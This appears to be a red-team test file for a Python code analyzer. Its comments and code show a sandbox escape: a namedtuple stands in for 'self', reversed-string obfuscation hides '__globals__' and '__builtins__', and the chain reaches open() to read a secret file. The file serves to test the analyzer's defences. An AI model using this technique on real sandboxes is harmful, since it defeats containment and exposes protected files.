# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: dynamic_names.table_names judges getattr calls with table names in file order and only then records
# what they read in ctx.attribute_loads; Reader.fetch's `for key in self.FIELDS` is judged first, while the
# later `for name in ("fetch",): getattr(Reader, name)` is not yet recorded, so objects.own_object trusts self.
# The plain function Reader.fetch then runs with a namedtuple as self: FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def pick(key):
    for name in ("fetch",):
        return getattr(Reader, name)


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = pick("fetch")(box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
